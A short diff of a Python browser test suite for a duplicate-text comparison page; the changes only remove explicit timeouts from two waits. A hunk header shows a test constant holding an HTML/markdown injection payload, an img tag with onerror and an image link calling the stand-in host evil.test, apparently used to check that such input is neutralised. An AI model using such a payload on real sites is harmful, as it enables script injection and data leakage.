@@ -21,7 +21,7 @@ EVIL = "![x](http://evil.test/leak.png) <img src=http://evil.test/a.png onerror=
 def opened(visitor: Visitor) -> Page:
     """The page with its first result."""
     page = visitor.open("/duplicates")
-    page.get_by_text("4 of 66 texts stand in 2 groups").wait_for(timeout=60_000)
+    page.get_by_text("4 of 66 texts stand in 2 groups").wait_for()
     settle(page)
     return page
 
@@ -103,7 +103,7 @@ def test_one_text_against_the_rest_stands_next_to_the_nearest(visit: Visit) -> N
     expect(marks(page, "left").filter(has_text="six-digit code")).to_have_count(1)
     expect(page.locator(".difference .left .name")).to_contain_text("The reference text")
     page.reload()
-    page.get_by_text("of 65 texts").first.wait_for(timeout=60_000)
+    page.get_by_text("of 65 texts").first.wait_for()
     expect(page.get_by_label("Reference text", exact=True)).to_have_value(re.compile(r"^Forgot your password\?"))
 
 
